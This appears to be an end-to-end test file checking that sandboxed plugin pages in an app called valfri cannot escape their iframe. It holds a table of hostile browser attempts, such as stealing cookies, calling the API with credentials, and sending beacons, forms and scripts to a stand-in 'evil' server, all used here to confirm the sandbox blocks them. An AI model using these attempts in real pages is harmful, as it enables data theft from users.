import { pagedPlugin } from '@valfri/server/testing';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { axeFindings } from '../../../scripts/testing/axe.ts';
import { openPage } from '../../../scripts/testing/browser.ts';
import { workspace } from '../src/workspace.ts';
import { twoPeople, type TwoPeople } from './two-people.ts';

const folder = mkdtempSync(join(tmpdir(), 'valfri-e2e-pages-'));
const answering = new Set<string>();
const hostile = pagedPlugin({
  folder,
  files: {
    'ui/setup.html':
      '<!doctype html><html lang="sv"><title>Illvillig</title><script type="module" src="setup.js"></script><p>Illvillig</p></html>',
    'ui/setup.js': `import { connectToShell } from '/valfri-ui.js';
      const shell = await connectToShell();
      const echo = await shell.ask('echo', { at: shell.language + ' ' + shell.theme });
      document.body.append(JSON.stringify(echo));
      globalThis.shell = shell;`,
    'ui/silent.html': '<!doctype html><html lang="sv"><title>Tyst</title><p>Tyst</p></html>',
  },
  ui: {
    directory: 'ui',
    pages: [
      { id: 'setup', title: { en: 'Hostile', sv: 'Illvillig' }, audience: 'operator', path: 'setup.html' },
      { id: 'silent', title: { en: 'Silent', sv: 'Tyst' }, audience: 'operator', path: 'silent.html' },
    ],
  },
  ask: async ({ name, data }) => {
    answering.add(name);
    return data;
  },
});
const settings = {
  ...{ homeserverUrl: 'http://127.0.0.1:9', serverName: 'example.se' },
  ...{ asToken: 'as-token-of-sixteen', hsToken: 'hs-token-of-sixteen' },
};
const MATRIX = '/operate/providers/matrix/pages/connect';
const HOSTILE = '/operate/providers/hostile/pages/setup';

let people: TwoPeople;
let port: string;
beforeAll(async () => {
  people = await twoPeople({
    ...workspace,
    plugins: [...workspace.plugins, hostile],
    instances: [
      ...workspace.instances,
      { id: 'matrix', plugin: 'chat-matrix', settings },
      { id: 'hostile', plugin: 'paged' },
    ],
  });
  port = new URL(people.host.url).port;
}, 60_000);
afterAll(async () => {
  await people[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true });
});

const open = (path: string, options: { width?: number; locale?: 'sv-SE' | 'en-GB' } = {}) => {
  const beside = ['matrix', 'hostile', 'added'].map((name) => `${name}.localhost:${port}`);
  return people.open(people.host.operator, path, { beside, ...options });
};

/** The document within the frame. */
async function framed(page: Page): Promise<Frame> {
  const element = await page.locator('iframe.plugin-frame:not([hidden])').elementHandle();
  return (await element!.contentFrame())!;
}

test('an operator opens the page of a Matrix provider: the registration, its tokens on demand, how they get on', async () => {
  const { page } = await open('/operate/providers/matrix');
  await page.getByRole('link', { name: 'Anslut en hemserver' }).click();
  await page.getByRole('heading', { name: 'Anslut en hemserver', level: 1 }).waitFor();
  const frame = await framed(page);
  const file = frame.getByLabel('Registrering för hemservern');
  await expect.poll(() => file.inputValue()).toContain(`url: "${people.host.url}/plugins/matrix"`);
  expect(await file.inputValue()).not.toContain('of-sixteen');
  await frame.getByText('Ingen hemserver svarar på http://127.0.0.1:9.').waitFor();
  await frame.getByRole('button', { name: 'Visa nycklarna' }).click();
  await expect.poll(() => file.inputValue()).toContain('as_token: "as-token-of-sixteen"');
  await frame.getByRole('button', { name: 'Kopiera filen' }).click();
  await frame.getByText('Texten är markerad').waitFor();
  expect(await frame.evaluate(() => String(getSelection()))).toContain('as-token-of-sixteen');
  await frame.getByRole('button', { name: 'Dölj nycklarna' }).click();
  await expect.poll(() => file.inputValue()).not.toContain('of-sixteen');
  const height = () => page.locator('iframe.plugin-frame').evaluate((element) => element.clientHeight);
  const within = () => frame.evaluate(() => document.documentElement.offsetHeight);
  await expect.poll(async () => Math.abs((await height()) - (await within()))).toBeLessThan(3);
  await page.goto(`${people.host.url}/operate/log`);
  await page.getByText('frågade en leverantör på dess egen sida').first().waitFor();
});

test('axe finds nothing on the page, around it or in it, and at 360 pixels nothing is cut off', async () => {
  const { session } = people.host.operator.api;
  for (const theme of ['light', 'dark', 'contrast'] as const)
    for (const language of ['sv', 'en'] as const) {
      await session.changePreferences.mutate({ theme, language });
      const { page, context } = await open(MATRIX, { width: 360 });
      const frame = await framed(page);
      await frame.getByRole('button', { name: language === 'sv' ? 'Visa nycklarna' : 'Show the tokens' }).click();
      await frame.locator('#health[data-well=false]').waitFor();
      expect([...(await axeFindings(page)), ...(await axeFindings(frame))]).toEqual([]);
      const dress = () => [document.documentElement.lang, document.documentElement.dataset['theme']];
      expect(await frame.evaluate(dress)).toEqual([language, theme]);
      const cutOff = () => document.documentElement.scrollWidth > document.documentElement.clientWidth;
      expect([await page.evaluate(cutOff), await frame.evaluate(cutOff)]).toEqual([false, false]);
      await context.close();
    }
  await session.changePreferences.mutate({ theme: 'light', language: 'sv' });
}, 60_000);

test('a page follows when language and theme change while it is open', async () => {
  const { page } = await open(MATRIX);
  const frame = await framed(page);
  await frame.getByRole('button', { name: 'Visa nycklarna' }).waitFor();
  await page.emulateMedia({ colorScheme: 'dark' });
  // Chosen is light; what follows the system is told too.
  await people.host.operator.api.session.changePreferences.mutate({ theme: 'system' });
  await page.reload();
  const again = await framed(page);
  const theme = () => again.evaluate(() => document.documentElement.dataset['theme']);
  await expect.poll(theme).toBe('dark');
  await page.emulateMedia({ colorScheme: 'light' });
  await expect.poll(theme).toBe('light');
});

test('by keyboard one gets into the frame and out again', async () => {
  const { page } = await open(MATRIX);
  const frame = await framed(page);
  await frame.locator('#health[data-well=false]').waitFor();
  await page.locator('h1').focus();
  const where = async () =>
    (await page.evaluate(() => document.activeElement!.tagName)) === 'IFRAME'
      ? frame.evaluate(() => document.activeElement!.id)
      : 'shell';
  const visited: string[] = [];
  for (const key of ['Tab', 'Tab', 'Tab', 'Shift+Tab', 'Shift+Tab', 'Shift+Tab']) {
    await page.keyboard.press(key);
    visited.push(await where());
  }
  expect(visited).toEqual(['registration', 'tokens', 'again', 'tokens', 'registration', 'shell']);
});

test('a page that does not connect is told of, and can be tried again', async () => {
  const { page } = await open('/operate/providers/hostile/pages/silent');
  const said = page.getByRole('alert').filter({ hasText: 'Sidan svarar inte.' });
  await page.getByRole('status', { name: 'Hämtar' }).first().waitFor();
  await said.waitFor();
  expect(await axeFindings(page)).toEqual([]);
  await page.getByRole('button', { name: 'Försök igen' }).click();
  await said.waitFor({ state: 'detached' });
  await said.waitFor();
}, 30_000);

test('where no domain is set for them, pages are not offered, and the setting is named', async () => {
  const { page } = await open('/operate');
  await page.route(/functions\.list/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replaceAll(/,"url":"[^"]*\.html"/g, '') });
  });
  for (const path of ['/operate/providers/matrix', MATRIX]) {
    await page.goto(people.host.url + path);
    await page.getByText('Leverantörens egna sidor kan inte visas.').waitFor();
    await page.getByText('VALFRI_PLUGINS_DOMAIN').waitFor();
    expect(await page.locator('iframe, a[href$="/pages/connect"]').count()).toBe(0);
  }
});

test('the page of a provider that was added a moment ago is shown too', async () => {
  const { page } = await open('/operate/functions/chat');
  const { functions } = people.host.operator.api;
  await functions.addInstance.mutate({ id: 'added', plugin: 'chat-matrix', title: 'Tillagd', settings });
  await page.evaluate(() => {
    history.pushState(null, '', '/operate/providers/added/pages/connect');
    dispatchEvent(new PopStateEvent('popstate'));
  });
  await expect
    .poll(async () => (await framed(page)).url(), { timeout: 10_000 })
    .toBe(`http://added.localhost:${port}/connect.html`);
  await functions.removeInstance.mutate({ id: 'added', eraseData: true });
});

/** What a hostile page tries, each to come true or to fail; run in its frame. */
const tries: Readonly<Record<string, (given: { own: string; evil: string }) => unknown>> = {
  'the shell’s document': () => window.parent.document.title,
  'the top’s document': () => top!.document.body.innerHTML,
  'the shell’s address': () => window.parent.location.href,
  cookies: () => document.cookie,
  'local storage': () => localStorage.length,
  'session storage': () => sessionStorage.length,
  databases: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('x');
      request.addEventListener('success', resolve);
      request.addEventListener('error', reject);
    }),
  caches: () => caches.open('x'),
  'a service worker': () => navigator.serviceWorker.register('/setup.js'),
  'the API': ({ own }) => fetch(`${own}/trpc/session.info`, { credentials: 'include' }),
  'the API, unseen': ({ own }) => fetch(`${own}/trpc/session.info`, { credentials: 'include', mode: 'no-cors' }),
  'its own hostname': () => fetch('/setup.js'),
  'a foreign origin': ({ evil }) => fetch(evil, { mode: 'no-cors' }),
  'a beacon': ({ evil }) => navigator.sendBeacon(evil, 'x') && Promise.reject(new Error('queued, and stopped')),
  'a request of the old kind': ({ evil }) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.addEventListener('load', resolve);
      request.addEventListener('error', reject);
      request.open('GET', evil);
      request.send();
    }),
  'a WebSocket': ({ own }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${own.replace('http', 'ws')}/live`);
      socket.addEventListener('open', resolve);
      socket.addEventListener('error', reject);
    }),
  'an event stream': ({ evil }) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(evil);
      source.addEventListener('open', resolve);
      source.addEventListener('error', () => (source.close(), reject(new Error('refused'))));
    }),
  'a foreign picture': ({ evil }) =>
    new Promise((resolve, reject) => {
      const image = new Image();
      image.addEventListener('load', resolve);
      image.addEventListener('error', reject);
      image.src = `${evil}/x.png`;
    }),
  'a foreign script': ({ evil }) => import(`${evil}/x.js`),
  'a worker': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker('/setup.js');
      worker.addEventListener('message', resolve);
      worker.addEventListener('error', reject);
    }),
  'a text as code': () => new Function('return 1')(),
  'a window': ({ evil }) => window.open(evil) ?? Promise.reject(new Error('refused')),
  'the top elsewhere': ({ evil }) => {
    top!.location.href = evil;
  },
  'the top elsewhere, by a link': ({ evil }) => {
    const link = Object.assign(document.createElement('a'), { href: evil, target: '_top' });
    document.body.append(link);
    link.click();
    return Promise.reject(new Error('seen by the top’s address'));
  },
  'a form': ({ evil }) => {
    const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
    document.body.append(form);
    form.submit();
    return Promise.reject(new Error('seen by what arrives'));
  },
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'where it is': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'the clipboard': () => navigator.clipboard.readText(),
  'the whole screen': () => document.documentElement.requestFullscreen(),
};

/** What leads a document that is the top itself elsewhere, as it may. */
const AWAY: readonly string[] = ['the top elsewhere', 'the top elsewhere, by a link', 'a form'];

/** Which of the tries come true in a document. */
async function cameTrue(frame: Frame | Page, evil: string, except: readonly string[] = []): Promise<readonly string[]> {
  const found: string[] = [];
  for (const [name, attempt] of Object.entries(tries).filter(([each]) => !except.includes(each))) {
    // A moment later, for what a test evaluates may at first do what the page’s policy forbids.
    const source = `(async (given) => {
      await new Promise((resolve) => setTimeout(resolve));
      const late = new Promise((_, reject) => setTimeout(reject, 1500, new Error('late')));
      try { await Promise.race([(${String(attempt)})(given), late]); return true; } catch { return false; }
    })(${JSON.stringify({ own: people.host.url, evil })})`;
    if (await frame.evaluate(source)) found.push(name);
  }
  return found;
}

const KINDS: Readonly<Record<string, string>> = { '/x.png': 'image/svg+xml', '/x.js': 'text/javascript' };

/** A server that nobody must reach; what reached it. */
async function evilServer() {
  const reached: string[] = [];
  const server = createServer(({ url = '', headers }, response) => {
    reached.push(url);
    const kind = headers.accept === 'text/event-stream' ? headers.accept : (KINDS[url] ?? 'text/html');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': kind });
    response.end(url === '/x.png' ? '<svg xmlns="http://www.w3.org/2000/svg"/>' : '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port: at } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${at}`, reached, [Symbol.dispose]: () => void server.close().closeAllConnections() };
}

test('a hostile page can ask its own server half, and nothing else', async () => {
  using evil = await evilServer();
  const { browser, host } = people;
  const { page, context } = await openPage(browser, { url: host.url, cookie: host.operator.cookie });
  await page.goto(host.url + HOSTILE);
  const frame = await framed(page);
  await frame.getByText('{"at":"sv light"}').waitFor();
  expect([...answering]).toEqual(['echo']);
  expect(await frame.evaluate(() => [self.origin, isSecureContext])).toEqual(['null', true]);
  expect(await cameTrue(frame, evil.url)).toEqual([]);
  expect([page.url(), evil.reached, context.pages().length]).toEqual([host.url + HOSTILE, [], 1]);
  // Going elsewhere takes it nowhere, and it has lost the shell.
  await frame.evaluate((to) => void setTimeout(() => location.assign(`${to}/?secret`)), evil.url);
  await page.getByText('Sidan svarar inte.').waitFor();
  expect(evil.reached).toEqual([]);
  await context.close();
}, 60_000);

test('opened by its own address a page is as harmless, and has no cookie', async () => {
  using evil = await evilServer();
  const { browser, host } = people;
  const { page, context } = await openPage(browser, { url: host.url, cookie: host.operator.cookie });
  const sent: (string | undefined)[] = [];
  page.on('request', async (request) => void sent.push((await request.allHeaders())['cookie']));
  await page.goto(`http://hostile.localhost:${port}/setup.html`);
  expect(await page.evaluate(() => self.origin)).toBe('null');
  // It is the top here: what it looks at is its own.
  const own = ['the shell’s document', 'the top’s document', 'the shell’s address', 'the whole screen'];
  expect(await cameTrue(page, evil.url, [...own, ...AWAY.slice(0, 2)])).toEqual([]);
  expect(evil.reached).toEqual([]);
  expect(sent.filter(Boolean)).toEqual([]);
  await context.close();
}, 60_000);

test('the same tries come true in a page that nobody holds, so that the test can fail', async () => {
  using evil = await evilServer();
  using free = await evilServer();
  const { page, context } = await openPage(people.browser, { url: free.url });
  await page.goto(free.url);
  const found = await cameTrue(page, evil.url, AWAY);
  expect(found).toEqual(expect.arrayContaining(['cookies', 'databases', 'a foreign origin', 'a text as code']));
  expect(found.length).toBeGreaterThan(15);
  expect(evil.reached.length).toBeGreaterThan(5);
  await context.close();
}, 60_000);

test('what a page loads to connect is small', () => {
  // In bytes. The part by which editors read files and keep a channel is 200 of them.
  expect(gzipSync(readFileSync('host/shell/dist/valfri-ui.js')).length).toBeLessThan(850);
});
